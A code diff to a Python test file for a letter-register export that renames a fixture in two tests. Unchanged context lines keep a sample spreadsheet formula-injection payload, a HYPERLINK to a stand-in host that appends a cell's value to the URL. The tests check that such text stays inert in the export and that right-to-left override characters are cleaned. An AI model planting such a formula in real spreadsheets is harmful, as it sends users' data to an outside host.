@@ -16,7 +16,9 @@ from autentika.core.periods import Period
 HOSTILE = '=HYPERLINK("http://penipu.example/?d="&A1,"Klik di sini")'
 
 
-def test_a_subject_written_as_a_formula_stays_text_in_the_register(register, official, sumut):
+def test_a_subject_written_as_a_formula_stays_text_in_the_register(
+    register, official_without_figures, sumut
+):
     # (a letter number written as a formula is refused at registration: test_case_register.py)
     register(subject=HOSTILE)
     content = register_book_xlsx(office=sumut, period=Period.year(timezone.localdate().year))
@@ -53,7 +55,7 @@ def test_no_text_can_start_a_formula_or_break_the_export_and_other_text_is_kept(
 
 
 def test_a_right_to_left_override_stored_earlier_never_reaches_the_register(
-    register, official, sumut
+    register, official_without_figures, sumut
 ):
     """Forms refuse it now (tests/core/test_text_hygiene.py); text stored before is cleaned
     on its way out."""
